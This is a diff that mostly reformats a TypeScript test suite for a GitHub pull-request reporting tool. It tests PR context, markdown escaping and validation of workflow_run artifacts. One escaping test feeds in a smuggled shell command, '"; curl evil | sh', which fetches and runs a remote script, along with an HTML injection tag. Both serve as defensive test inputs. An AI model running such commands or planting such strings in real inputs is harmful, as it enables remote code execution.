@@ -6,17 +6,34 @@ import { readPrContext } from '../../src/github/context.js'
 import { forkWarning } from '../../src/github/fork.js'
 import { escapeMarkdownText } from '../../src/github/escape.js'
 import { createClient } from '../../src/github/client.js'
-import { parseResultArtifact, readArtifactFromDir, resolveWorkflowRunPr, type ResultArtifact } from '../../src/github/workflow-run.js'
+import {
+  parseResultArtifact,
+  readArtifactFromDir,
+  resolveWorkflowRunPr,
+  type ResultArtifact
+} from '../../src/github/workflow-run.js'
 import { FakeGitHub } from '../../__fixtures__/github/fake-api.js'
 import { forkPr, sameRepoPr, workflowRun } from '../../__fixtures__/github/events.js'
 import { report } from '../../__fixtures__/report.js'
 
-const env = { GITHUB_REPOSITORY: 'o/r', GITHUB_EVENT_NAME: 'pull_request', GITHUB_RUN_ID: '42', GITHUB_API_URL: 'http://127.0.0.1:1' }
+const env = {
+  GITHUB_REPOSITORY: 'o/r',
+  GITHUB_EVENT_NAME: 'pull_request',
+  GITHUB_RUN_ID: '42',
+  GITHUB_API_URL: 'http://127.0.0.1:1'
+}
 
 describe('readPrContext', () => {
   it('reads a same-repo PR', () => {
     const ctx = readPrContext(env, sameRepoPr)
-    expect(ctx).toMatchObject({ kind: 'pull_request', prNumber: 7, isFork: false, labels: ['perf-accepted'], baseRef: 'main', runUrl: 'https://github.com/o/r/actions/runs/42' })
+    expect(ctx).toMatchObject({
+      kind: 'pull_request',
+      prNumber: 7,
+      isFork: false,
+      labels: ['perf-accepted'],
+      baseRef: 'main',
+      runUrl: 'https://github.com/o/r/actions/runs/42'
+    })
   })
 
   it('detects a fork PR from the payload and explains the workflow_run set-up', () => {
@@ -35,7 +52,9 @@ describe('readPrContext', () => {
 
 describe('escapeMarkdownText', () => {
   it('neutralises mentions, HTML, table pipes and shell-looking branch names', () => {
-    expect(escapeMarkdownText('@org/team <img src=x> | broken')).toBe('@\u200borg/team &lt;img src=x&gt; \\| broken')
+    expect(escapeMarkdownText('@org/team <img src=x> | broken')).toBe(
+      '@\u200borg/team &lt;img src=x&gt; \\| broken'
+    )
     expect(escapeMarkdownText('"; curl evil | sh; #\nnext')).toBe('"; curl evil \\| sh; # next')
   })
 })
@@ -56,8 +75,12 @@ describe('the workflow_run result artifact', () => {
     expect(parseResultArtifact(JSON.stringify(artifact())).prNumber).toBe(7)
     expect(() => parseResultArtifact('{not json')).toThrow('not valid JSON')
     expect(() => parseResultArtifact('x'.repeat(100), 50)).toThrow('over the 50-byte limit')
-    expect(() => parseResultArtifact(JSON.stringify(artifact({ prNumber: -1, headSha: 'zz' })))).toThrow(/prNumber must be a positive integer; headSha must be/)
-    expect(() => parseResultArtifact(JSON.stringify({ ...artifact(), report: { verdict: 'pass' } }))).toThrow(/malformed: report/)
+    expect(() => parseResultArtifact(JSON.stringify(artifact({ prNumber: -1, headSha: 'zz' })))).toThrow(
+      /prNumber must be a positive integer; headSha must be/
+    )
+    expect(() => parseResultArtifact(JSON.stringify({ ...artifact(), report: { verdict: 'pass' } }))).toThrow(
+      /malformed: report/
+    )
   })
 
   let dir: string
@@ -83,10 +106,23 @@ describe('the workflow_run result artifact', () => {
     const octokit = createClient('t', { apiUrl: api.url })
     api.pulls.set(7, { state: 'open', head: { sha: 'a'.repeat(40) } })
     api.pulls.set(9, { state: 'open', head: { sha: 'd'.repeat(40) } })
-    expect(await resolveWorkflowRunPr(octokit, workflowRun('a'.repeat(40)), artifact(), { owner: 'o', repo: 'r' })).toEqual({ ok: true, prNumber: 7 })
-    const pointed = await resolveWorkflowRunPr(octokit, workflowRun('a'.repeat(40)), artifact({ prNumber: 9 }), { owner: 'o', repo: 'r' })
-    expect(pointed).toEqual({ ok: false, reason: 'artifact PR number #9 does not match workflow_run.head_sha (or the PR is closed)' })
-    const otherSha = await resolveWorkflowRunPr(octokit, workflowRun('e'.repeat(40)), artifact(), { owner: 'o', repo: 'r' })
+    expect(
+      await resolveWorkflowRunPr(octokit, workflowRun('a'.repeat(40)), artifact(), { owner: 'o', repo: 'r' })
+    ).toEqual({ ok: true, prNumber: 7 })
+    const pointed = await resolveWorkflowRunPr(
+      octokit,
+      workflowRun('a'.repeat(40)),
+      artifact({ prNumber: 9 }),
+      { owner: 'o', repo: 'r' }
+    )
+    expect(pointed).toEqual({
+      ok: false,
+      reason: 'artifact PR number #9 does not match workflow_run.head_sha (or the PR is closed)'
+    })
+    const otherSha = await resolveWorkflowRunPr(octokit, workflowRun('e'.repeat(40)), artifact(), {
+      owner: 'o',
+      repo: 'r'
+    })
     expect(otherSha.ok).toBe(false)
   })
 })
